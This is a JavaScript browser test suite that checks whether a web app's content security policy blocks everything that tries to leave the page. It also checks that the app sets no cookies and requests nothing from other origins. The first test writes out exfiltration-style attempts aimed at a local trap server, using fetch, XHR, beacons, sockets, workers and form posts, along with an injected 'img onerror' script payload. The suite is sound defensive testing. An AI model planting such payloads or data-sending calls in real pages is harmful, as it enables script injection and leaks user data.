// Nothing leaves the page, whatever a script in it might try. That no journey
// asks anybody for anything or speaks in the console, each of them looks itself.

import assert from "node:assert/strict";
import { serve } from "./support/server.mjs";
import { PAIR, SERVED, addPair, goTo, journeys, suggestion } from "./support/steps.mjs";

const journey = journeys();

journey("whatever tries to leave the page is refused by its policy", { loud: true }, async ({ t, page, complaints, open }) => {
  const trap = await serve();
  t.after(trap.stop);
  await open();
  await addPair(page);
  await goTo(page, "Today");
  assert.deepEqual(complaints, [], "until here the page was quiet");

  const attempts = await page.evaluate(async (elsewhere) => {
    const settled = {};
    window.policy = new Set();
    document.addEventListener("securitypolicyviolation", (event) => window.policy.add(event.effectiveDirective));
    const attempt = async (name, act) => {
      try {
        settled[name] = await act();
      } catch (error) {
        settled[name] = error.name;
      }
    };
    const loads = (tag, attribute, more = {}) =>
      new Promise((resolve) => {
        const element = Object.assign(document.createElement(tag), more);
        element.onload = () => resolve("loaded");
        element.onerror = () => resolve("refused");
        element[attribute] = `${elsewhere}${tag}?name=Ottilie`;
        document.body.append(element);
      });
    await attempt("fetch", () => fetch(`${elsewhere}fetch`, { mode: "no-cors" }).then(() => "reached"));
    await attempt("request", () => {
      const request = new XMLHttpRequest();
      request.open("POST", `${elsewhere}xhr`, false);
      request.send("Ottilie");
      return "reached";
    });
    await attempt("beacon", () => {
      navigator.sendBeacon(`${elsewhere}beacon`, "Ottilie");
      return "asked";
    });
    await attempt("image", () => loads("img", "src"));
    await attempt("script", () => loads("script", "src"));
    await attempt("style sheet", () => loads("link", "href", { rel: "stylesheet" }));
    await attempt("socket", () =>
      new Promise((resolve) => {
        const socket = new WebSocket(elsewhere.replace("http", "ws"));
        socket.onopen = () => resolve("opened");
        socket.onerror = () => resolve("refused");
      }),
    );
    await attempt("event source", () =>
      new Promise((resolve) => {
        const source = new EventSource(`${elsewhere}events`);
        source.onopen = () => resolve("opened");
        source.onerror = () => resolve("refused");
      }),
    );
    await attempt("worker", () => new Worker(`${elsewhere}worker.js`) && "started");
    await attempt("inline script", () => {
      const script = document.createElement("script");
      script.text = "window.ran = 1";
      document.body.append(script);
      return "asked";
    });
    await attempt("markup", () => {
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ran = 1'>");
      return "asked";
    });
    await attempt("evaluated text", () => new Function("window.ran = 1")());
    for (const tag of ["iframe", "video", "audio"]) {
      document.body.append(Object.assign(document.createElement(tag), { src: `${elsewhere}${tag}` }));
    }
    const form = Object.assign(document.createElement("form"), { action: `${elsewhere}form`, method: "post", target: "_blank" });
    document.body.append(form);
    form.submit();
    return settled;
  }, trap.url);

  for (const [name, outcome] of Object.entries(attempts)) {
    assert.ok(!["reached", "loaded", "opened", "started"].includes(outcome), `${name}: ${outcome}`);
  }
  // Scripts, markup and workers do not even get as far as being loaded.
  const refused = ["connect-src", "img-src", "style-src-elem", "frame-src", "media-src", "form-action", "require-trusted-types-for"];
  await page.waitForFunction((all) => all.every((it) => window.policy.has(it)), refused);
  assert.equal(await page.evaluate(() => window.ran), undefined, "no script that was put in ran");
  assert.deepEqual(trap.asked, []);
});

journey("what is stored and what is shown names nobody else's server", async ({ page, context, open }) => {
  const asked = [];
  context.on("request", (request) => asked.push(request.url()));
  await open();
  await addPair(page);
  await goTo(page, "Today");
  await page.getByRole("button", { name: "Ask both" }).click();
  await page.getByRole("button", { name: /^I asked / }).waitFor();
  const here = new URL(page.url());
  for (const url of asked) assert.equal(new URL(url).origin, here.origin);
  // No cookie, no other store, nothing that a server would get to see.
  assert.equal(await page.evaluate(() => document.cookie), "");
  assert.deepEqual(await context.cookies(), []);
  assert.equal(await page.evaluate(() => sessionStorage.length), 0);
});

journey("what the page knows of words is a part of it, and asking for it tells nothing", async ({ page, context, form, open }) => {
  await open();
  await addPair(page);
  const asked = [];
  context.on("request", (request) => asked.push(request));
  await page.reload();
  await goTo(page, "Today");
  await suggestion(page, PAIR.gains.name, PAIR.gives.name).waitFor();
  assert.equal(await page.getByRole("button", { name: "Try again" }).count(), 0, "no part of the page is missing");

  const others = asked.filter((it) => !it.isNavigationRequest()).map((it) => new URL(it.url()));
  if (form === SERVED) {
    const [knowledge, ...more] = others.filter((it) => it.pathname.includes("knowledge"));
    assert.match(knowledge.pathname, /^\/knowledge-[0-9a-f]{16}\.bin$/);
    assert.equal(knowledge.search, "");
    assert.deepEqual(more, [], "it is fetched once");
  } else {
    assert.deepEqual(others.filter((it) => !/^(blob|data):$/.test(it.protocol)), [], "the single file asks nobody for anything");
  }
});
